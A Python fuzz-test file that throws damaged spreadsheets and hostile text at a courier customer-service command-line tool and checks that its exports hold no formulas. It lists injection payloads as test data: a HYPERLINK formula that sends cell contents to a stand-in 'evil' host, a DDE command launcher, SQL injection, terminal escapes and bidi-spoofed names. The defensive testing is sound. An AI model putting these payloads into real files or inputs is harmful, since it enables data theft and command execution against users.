"""Fuzz (issue 8): a seeded generator throws damaged CSV/XLSX files, odd encodings, huge and
negative numbers, look-alike digits and formula text at ``import``, ``ticket add/note``,
``track`` and every ``export``, through the real command line in this process.

Asserted for every call: exit status 0, 1 or 2; no traceback and no internal error (a bug
would be logged and say 内部错误); a refusal is one line; a refused import leaves the
database as it was; no export holds a formula; ``--json`` prints one JSON document.

Driven by Hypothesis (issue 15): every random choice is a Hypothesis draw, so a failure
is shrunk to its smallest case and printed with the seed that replays it. The normal run
is derandomized (the same cases every run, no example database written: the suite stays
fast and reproducible). A longer, new run: ``KEFU_FUZZ_CASES=2000 KEFU_FUZZ_SEED=7``.

Stored text (issue 15 item 3): any text a clerk types into a note, a complaint or
``--user`` is printed back by the lists as one line per record, with no control character."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import sqlite3
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, seed, settings
from hypothesis import strategies as st

from kefu_tui import cli
from kefu_tui.services.export import REPORTS

CASES = int(os.environ.get("KEFU_FUZZ_CASES", "40"))
SEED = int(os.environ.get("KEFU_FUZZ_SEED", "20261202"))
# One database per test (the fixtures), shared by its examples: each call's own checks
# (exit status, one line, nothing written on refusal) hold whatever came before it.
FUZZ = settings(max_examples=CASES, derandomize="KEFU_FUZZ_SEED" not in os.environ, database=None,
                deadline=None, print_blob=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
# Hypothesis's Random: each choice a draw it can shrink (the generators below take one)
RANDOMS = st.randoms(use_true_random=False)
# Any text at all (control characters, bidi overrides, line breaks, markup, formulas)
# next to the hand-picked hostile ones
TEXTS = st.one_of(st.text(st.characters(exclude_categories=("Cs",)), max_size=40),
                  st.text(st.sampled_from("\x1b\x9b\x07\x7f\u202e\n\r\t\u2028[]/b$=@+- 红a1"), max_size=20))
NOW = "2026-11-24T09:30:00+08:00"
KNOWN = ["518023259997", "518019008098", "518099604346", "518022899885"]
FULL = str.maketrans("0123456789", "０１２３４５６７８９")
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
FORMULAS = ['=HYPERLINK("http://evil/"&A1,"查看")', "+1+1", "-2+3*A1", "@SUM(A1:A9)", "\t=1+1",
            "\r=1", "=cmd|' /C calc'!A0", "＝1+1", '=IMPORTXML("http://x","//a")']
ODD = ["\x1b[2J\x1b]0;pwn\x07", "\u202egnp.exe", "\x00nul", "😀" * 3, "长" * 3000, "", " ",
       "'; DROP TABLE tickets; --", "\udcff\udcfe", "\ufeff", "9" * 40, "-1", "1e999", "nan", "0x1F"]
TIMES = ["2026-11-24 08:00:00", "2026/11/24 08:00", "2026-W48-2 08:00:00", "0001-01-01 00:00:00",
         "9999-12-31 23:59:59", "2026-02-30 08:00", "yesterday", "", "２０２６-１１-２４ ０８:００", "45000.5"]


def look_alike(rnd: random.Random) -> str:
    no = rnd.choice(KNOWN + [str(rnd.randrange(10**11, 10**12))])
    return rnd.choice([no, no.translate(FULL), no.translate(ARABIC), no[:11], no + "7", "-" + no,
                       no[:6] + "O" + no[7:], f"\x02{no}\x03\r", "9" * 30, rnd.choice(FORMULAS)])


# what a hostile text is made of besides the samples: controls, markup, line breaks, CJK
ALPHABET = "\x1b\x9b\x07\x00\x7f\u202e\u2066\n\r\t\u2028\u0085[]/b$=@+-\\ 红签收a1"


def hostile_text(rnd: random.Random) -> str:
    return rnd.choice([rnd.choice(FORMULAS), rnd.choice(ODD), "客户电话停机", rnd.choice(FORMULAS) + rnd.choice(ODD),
                       "".join(rnd.choice(ALPHABET) for _ in range(rnd.randrange(1, 16)))])


def cell(rnd: random.Random, kind: str) -> str:
    if kind == "no":
        return look_alike(rnd)
    if kind == "time":
        return rnd.choice(TIMES)
    if kind == "num":
        return rnd.choice(["1", "2.5", "-3", "99999999999999999999999999", "1e999", "nan", "３", "", "12元"])
    return hostile_text(rnd)


SCAN_HEAD = ["运单号", "扫描类型", "扫描时间", "扫描网点", "备注"]
WAYBILL_HEAD = ["运单号", "收件人", "件数", "重量", "代收金额", "寄件时间", "面单备注"]
DELIVERY_HEAD = ["运单号", "派件员", "派件时间", "派件网点"]
REGISTER_HEADS = [["罚款单号", "罚款时间", "金额", "运单号", "说明"],
                  ["仲裁单号", "运单号", "投诉网点", "投诉类型", "受理时间", "金额"],
                  ["订单号", "下单时间", "寄件人", "运单号", "状态"]]
KINDS = {"运单号": "no", "扫描时间": "time", "寄件时间": "time", "派件时间": "time", "件数": "num",
         "重量": "num", "代收金额": "num", "罚款时间": "time", "受理时间": "time", "下单时间": "time",
         "金额": "num"}


def hostile_table(rnd: random.Random) -> tuple[list[str], list[list[str]]]:
    head = rnd.choice([SCAN_HEAD, WAYBILL_HEAD, DELIVERY_HEAD, *REGISTER_HEADS, ["随便", "什么"], FORMULAS[:3]])
    rows = []
    for _ in range(rnd.randrange(0, 12)):
        row = [cell(rnd, KINDS.get(h, "text")) for h in head]
        if h := (head is SCAN_HEAD and rnd.random() < 0.6):
            row[1] = rnd.choice(["到件", "派件", "签收", "=1+1"])
        rows.append(row)
    return head, rows


def write_file(rnd: random.Random, folder: Path, n: int) -> Path:
    head, rows = hostile_table(rnd)
    if rnd.random() < 0.5:
        enc = rnd.choice(["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16", "latin-1"])
        buf = io.StringIO()
        csv.writer(buf).writerows([head, *rows])
        data = buf.getvalue().encode(enc, "replace") if enc != "latin-1" else buf.getvalue().encode("utf-8", "surrogateescape")[::-1]
        p = folder / f"f{n}.csv"
    else:
        from openpyxl import Workbook
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        def xlsx_able(v: str):  # what an XLSX can hold at all
            if v in ("1e999", "nan"):
                return float(v)
            return ILLEGAL_CHARACTERS_RE.sub("", v.encode("utf-8", "replace").decode("utf-8"))

        wb = Workbook()
        ws = wb.active
        for r in [head, *rows]:
            ws.append([xlsx_able(v) for v in r])
        bio = io.BytesIO()
        wb.save(bio)
        data = bio.getvalue()
        p = folder / f"f{n}.xlsx"
    data = bytearray(data)
    damage = rnd.random()
    if damage < 0.2 and data:
        for _ in range(rnd.randrange(1, 6)):
            data[rnd.randrange(len(data))] ^= rnd.randrange(1, 256)
    elif damage < 0.3:
        data = data[: rnd.randrange(len(data) + 1)]
    elif damage < 0.35:
        data = bytes(rnd.randrange(256) for _ in range(rnd.randrange(1, 3000)))
    if rnd.random() < 0.1:
        p = p.with_name(os.fsdecode(b"\xff\xfe" + os.fsencode(p.name)))
    p.write_bytes(bytes(data))
    return p


def snapshot(db: Path) -> tuple:
    with sqlite3.connect(db) as c:
        tables = [r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type='table' AND name NOT LIKE 'sqlite_%'")]
        return tuple((t, c.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0]) for t in sorted(tables))


def no_formula_in(path: Path) -> None:
    if path.suffix == ".csv":
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for c in row:
                    assert not c.startswith(("=", "+", "@", "\t", "\r", "＝", "＋", "＠")), c
                    if c.startswith(("-", "－")):
                        float(c)  # only a plain negative number may start with '-'
    else:
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = z.read(name).decode()
                    assert "<f>" not in xml and "<f " not in xml


class Runner:
    def __init__(self, db: Path, capsys, monkeypatch):
        self.db, self.capsys, self.monkeypatch = db, capsys, monkeypatch

    def __call__(self, *args: str, stdin: str = "") -> tuple[int, str, str]:
        self.monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
        try:
            code = cli.main(["--db", str(self.db), "--now", NOW, "--user", "fuzz", *args])
        except SystemExit as e:
            code = e.code
        out, err = self.capsys.readouterr()
        assert code in (0, 1, 2), (args, code, err)
        assert "Traceback" not in err + out, (args, err)
        assert "内部错误" not in err, (args, err)  # a bug: see the log in KEFU_DATA_DIR
        if code:
            assert len(err.strip().splitlines()) <= 1, (args, err)
        if "--json" in args and code == 0:
            json.loads(out)
        return code, out, err


@pytest.fixture
def run(tmp_path, capsys, monkeypatch, samples):
    monkeypatch.setenv("KEFU_DATA_DIR", str(tmp_path / "data"))
    r = Runner(tmp_path / "kefu.db", capsys, monkeypatch)
    code, _, _ = r("import", str(samples / "扫描记录_20261123.csv"), str(samples / "运单导出_20261123.xlsx"))
    assert code == 0
    return r


@seed(SEED)
@FUZZ
@given(rnd=RANDOMS)
def test_fuzz_hostile_inputs(run, tmp_path, rnd):
    folder = tmp_path / "in"
    folder.mkdir(exist_ok=True)
    n = f"{rnd.getrandbits(64):x}"  # names this example's files
    action = rnd.choice(["import", "import", "import", "add", "note", "track", "export"])
    if action == "import":
        files = [write_file(rnd, folder, f"{n}_{k}") for k in range(rnd.choice([1, 1, 2]))]
        before = snapshot(run.db)
        flags = rnd.sample(["--strict", "--json"], rnd.randrange(3))
        code, _, _ = run("import", *map(str, files), *flags)
        if code:
            assert snapshot(run.db) == before, files
    elif action == "add":
        numbers = [look_alike(rnd) for _ in range(rnd.randrange(1, 5))]
        stdin = "\n".join(look_alike(rnd) for _ in range(5))
        if rnd.random() < 0.3:
            numbers.append("-")
        run("ticket", "add", "--type", rnd.choice(["phone", "address", "电话", "=1+1"]),
            "--text", hostile_text(rnd), *numbers, *(["--json"] if rnd.random() < 0.5 else []), stdin=stdin)
    elif action == "note":
        run("ticket", "note", rnd.choice([look_alike(rnd), KNOWN[0]]), hostile_text(rnd))
    elif action == "track":
        run("track", *[look_alike(rnd) for _ in range(3)], "-", stdin=hostile_text(rnd) + "\n" + look_alike(rnd),
            *(["--json"] if rnd.random() < 0.5 else []))
    else:
        when = rnd.choice([[], ["--date", "2026-11-24"], ["--month", "2026-11"], ["--date", rnd.choice(TIMES)],
                           ["--month", rnd.choice(["9999-12", "0000-01", "2026-13", "２０２６-１１"])]])
        for report in REPORTS:
            out = tmp_path / f"e{n}_{report}.{rnd.choice(['csv', 'xlsx'])}"
            code, _, _ = run("export", report, "-o", str(out), *when)
            if code == 0:
                no_formula_in(out)


def test_every_export_after_hostile_registrations(run, tmp_path):
    """Formula text in every field a clerk can type, then every report in both formats."""
    for no in KNOWN[:2]:
        assert run("ticket", "add", "--type", "phone", "--text", FORMULAS[0], no)[0] == 0
        assert run("ticket", "note", no, FORMULAS[3])[0] == 0
    for report in REPORTS:
        for suffix in ("csv", "xlsx"):
            out = tmp_path / f"{report}.{suffix}"
            assert run("export", report, "-o", str(out))[0] == 0
            no_formula_in(out)


NUMBERS = ["1e999", "-1e999", "nan", "inf", "99999999999999999999999999", "-3", "0", "１２", "0x10", "1_000", "",
           "=1+1", "1,5"]


@seed(SEED)
@FUZZ
@given(rnd=RANDOMS)
def test_fuzz_hostile_numbers_and_times_in_every_command(run, rnd):
    """Numbers and times a careless or malicious clerk types into the other commands."""
    n = lambda: rnd.choice(NUMBERS)  # noqa: E731
    t = lambda: rnd.choice(TIMES + ["0001-01-01T00:00:00", "9999-12-31T23:59:59+08:00", "2026-11-24T08:00:00"])  # noqa: E731
    args = rnd.choice([
        ["intake", "quote", "--weight", n(), "--dims", f"{n()}x{n()}x{n()}", "--to", hostile_text(rnd),
         "--cod", n(), "--json"],
        ["transfer", "quote", "--to", "信阳市浉河区" + hostile_text(rnd), "--weight", n(), "--arrived", t(),
         "--length-cm", n(), "--json"],
        ["ticket", "list", "--limit", n(), "--search", look_alike(rnd)],
        ["ticket", "close", look_alike(rnd), "--reason", hostile_text(rnd)],
        ["handover", "add", hostile_text(rnd)],
        ["handover", "done", n()],
        ["complaint", "add", "--from", hostile_text(rnd), "--phone", n(), "--text", hostile_text(rnd),
         "--waybill", look_alike(rnd)],
        ["complaint", "step", n(), "judged", "--text", hostile_text(rnd)],
        ["slips", "--date", rnd.choice(TIMES)],
        ["monitor", "--json"],
    ])
    run(*args)


@seed(SEED)
@FUZZ
@given(text=TEXTS, user=TEXTS)
def test_stored_text_comes_back_one_line_per_record(run, text, user):
    """issue 15 item 3: a note and a complaint typed with any text by any ``--user`` (or
    refused with one line), then ``handover list`` / ``complaint list`` print exactly one
    line per record (a newline never forges one) and no terminal control character."""
    run("--user", user, "handover", "add", text)
    run("--user", user, "complaint", "add", "--from", text, "--phone", "138", "--text", text)
    for args, key, empty in ((["handover", "list"], "notes", "没有未办的交接记录"),
                             (["complaint", "list"], "complaints", "没有投诉")):
        records = len(json.loads(run(*args, "--json")[1])[key])
        _, out, _ = run(*args)
        assert not any(c in out for c in "\x1b\x9b\x07\x7f\u202e\r\u2028"), out
        assert out.splitlines() == [empty] if not records else len(out.splitlines()) == records, out
